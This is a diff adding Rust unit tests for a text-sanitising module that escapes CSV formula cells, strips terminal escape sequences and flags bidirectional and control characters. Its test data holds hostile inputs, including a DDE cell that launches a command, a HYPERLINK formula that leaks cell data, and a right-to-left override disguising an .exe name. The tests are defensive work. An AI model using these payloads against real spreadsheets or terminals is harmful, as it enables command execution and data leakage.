@@ -1,0 +1,109 @@
+//! Tests of `model::safe_text`: CSV cells, terminal lines and characters a declaration must not
+//! hold.
+
+use super::*;
+
+#[test]
+fn csv_cells_never_start_a_formula_nor_hold_control_characters() {
+    // (cell text, CSV field written)
+    let rows: &[(&str, &str)] = &[
+        ("桐庐县", "桐庐县"),
+        ("", ""),
+        ("a,b", "\"a,b\""),
+        ("说\"好\"", "\"说\"\"好\"\"\""),
+        ("第一段\n第二段", "\"第一段\n第二段\""),
+        ("第一段\r\n第二段\r第三段", "\"第一段\n第二段\n第三段\""),
+        ("0571-87654321", "0571-87654321"),
+        ("2021-06-30", "2021-06-30"),
+        ("a=b", "a=b"),
+        // Hostile cells.
+        (
+            "=HYPERLINK(\"http://x/\"&B2,\"详情\")",
+            "\"'=HYPERLINK(\"\"http://x/\"\"&B2,\"\"详情\"\")\"",
+        ),
+        (
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "\"'@SUM(1+9)*cmd|' /C calc'!A0\"",
+        ),
+        ("+1+1", "\"'+1+1\""),
+        ("-2+3", "\"'-2+3\""),
+        ("\t=2+2", "\"' =2+2\""),
+        ("\r=2+2", "\"'\n=2+2\""),
+        ("＝1+1", "\"'＝1+1\""),
+        ("＋1", "\"'＋1\""),
+        ("－1", "\"'－1\""),
+        ("＠A1", "\"'＠A1\""),
+        ("  =1+1", "\"'  =1+1\""),
+        ("\u{3000}=1+1", "\"'\u{3000}=1+1\""),
+        // Hidden characters never reach the file.
+        ("a\u{1b}[31mb", "a\u{fffd}[31mb"),
+        ("a\0b\u{7f}c\u{85}d", "a\u{fffd}b\u{fffd}c\u{fffd}d"),
+        ("abc\u{202e}txt.exe", "abc\u{fffd}txt.exe"),
+        ("\u{2066}x\u{2069}", "\u{fffd}x\u{fffd}"),
+        ("a\tb", "a b"),
+    ];
+    for (text, field) in rows {
+        assert_eq!(csv_field(text), *field, "{text:?}");
+    }
+    assert_eq!(
+        csv_line(&["x".into(), "y,z".into(), String::new(), "=1".into()]),
+        "x,\"y,z\",,\"'=1\"\r\n"
+    );
+}
+
+#[test]
+fn terminal_lines_hold_no_escape_sequences() {
+    for (text, line) in [
+        ("桐庐县", "桐庐县"),
+        ("a\tb\nc\r\n", "a b c  "),
+        (
+            "\u{1b}[2J\u{1b}]0;x\u{7}",
+            "\u{fffd}[2J\u{fffd}]0;x\u{fffd}",
+        ),
+        ("\u{9b}31m", "\u{fffd}31m"),
+        ("a\u{202e}b\u{200f}", "a\u{fffd}b\u{fffd}"),
+    ] {
+        assert_eq!(terminal_line(text), line, "{text:?}");
+    }
+}
+
+#[test]
+fn forbidden_characters_of_a_declaration() {
+    // (character, forbidden?)
+    for (c, forbidden) in [
+        ('a', false),
+        ('桐', false),
+        ('\n', false),
+        (' ', false),
+        ('\u{3000}', false),
+        ('（', false),
+        ('\t', true),
+        ('\r', true),
+        ('\0', true),
+        ('\u{1b}', true),
+        ('\u{7f}', true),
+        ('\u{85}', true),
+        ('\u{9b}', true),
+        ('\u{200e}', true),
+        ('\u{200f}', true),
+        ('\u{202a}', true),
+        ('\u{202e}', true),
+        ('\u{2066}', true),
+        ('\u{2069}', true),
+        ('\u{061c}', true),
+        ('\u{e000}', true),
+        ('\u{f8ff}', true),
+        ('\u{f0000}', true),
+        ('\u{10fffd}', true),
+    ] {
+        assert_eq!(
+            is_forbidden_in_declaration(c),
+            forbidden,
+            "U+{:04X}",
+            c as u32
+        );
+    }
+    assert_eq!(describe_forbidden('\u{202e}'), "文字方向控制符");
+    assert_eq!(describe_forbidden('\u{1b}'), "控制字符");
+    assert_eq!(describe_forbidden('\u{e000}'), "私用区字符");
+}
